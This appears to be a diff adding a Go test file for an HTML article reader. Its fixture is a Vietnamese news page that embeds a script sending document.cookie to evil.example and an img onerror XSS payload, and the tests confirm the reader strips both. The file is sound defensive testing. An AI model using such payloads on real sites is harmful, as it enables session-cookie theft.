@@ -1,0 +1,59 @@
+package markup
+
+import (
+	"strings"
+	"testing"
+)
+
+const article = `<!DOCTYPE html><html><head>
+<title>Xuất khẩu tăng | Báo Mẫu</title>
+<meta property="og:title" content="Xuất khẩu quý I tăng 17%">
+<meta property="article:published_time" content="2024-04-02T08:30:00+07:00">
+<meta name="author" content="Minh Anh">
+<link rel="canonical" href="https://bao.example/xuat-khau-quy-i.html">
+<script>document.location="https://evil.example/?"+document.cookie</script>
+<style>p{color:red}</style>
+</head><body>
+<nav><a href="/">Trang chủ</a> <a href="/kinh-te">Kinh tế</a></nav>
+<article>
+<h1>Xuất khẩu quý I tăng 17%</h1>
+<p>Kim ngạch xuất khẩu quý I/2024 ước đạt 93 tỷ USD,<br>tăng 17% so với cùng kỳ.</p>
+<p>Trong đó, khu vực có vốn đầu tư nước ngoài chiếm 72%.</p>
+<img src=x onerror="alert(1)">
+<div hidden>ẩn đi</div>
+</article>
+<footer>Bản quyền © Báo Mẫu</footer>
+</body></html>`
+
+func TestRead(t *testing.T) {
+	if !IsHTML(article) || IsHTML("Kim ngạch xuất khẩu tăng <5% so với cùng kỳ") {
+		t.Fatal("IsHTML")
+	}
+	p := Read(article)
+	if p.Title != "Xuất khẩu quý I tăng 17%" || p.Published != "2024-04-02T08:30:00+07:00" || p.Author != "Minh Anh" || p.URL != "https://bao.example/xuat-khau-quy-i.html" {
+		t.Errorf("metadata: %+v", p)
+	}
+	for _, with := range []string{"Kim ngạch xuất khẩu quý I/2024 ước đạt 93 tỷ USD,", "tăng 17% so với cùng kỳ.", "chiếm 72%."} {
+		if !strings.Contains(p.Text, with) {
+			t.Errorf("lost %q in %q", with, p.Text)
+		}
+	}
+	for _, without := range []string{"document.cookie", "color:red", "Trang chủ", "Bản quyền", "ẩn đi", "alert", "<"} {
+		if strings.Contains(p.Text, without) {
+			t.Errorf("kept %q in %q", without, p.Text)
+		}
+	}
+}
+
+// Broken and hostile markup never panics and never yields a tag as text.
+func FuzzRead(f *testing.F) {
+	f.Add(article)
+	f.Add("<p>tăng 5%<script>x</p>")
+	f.Add("<div><<<>>></div><!-- <p>")
+	f.Fuzz(func(t *testing.T, s string) {
+		p := Read(s)
+		if strings.Contains(p.Text, "<script") {
+			t.Fatalf("script tag in text: %q", p.Text)
+		}
+	})
+}
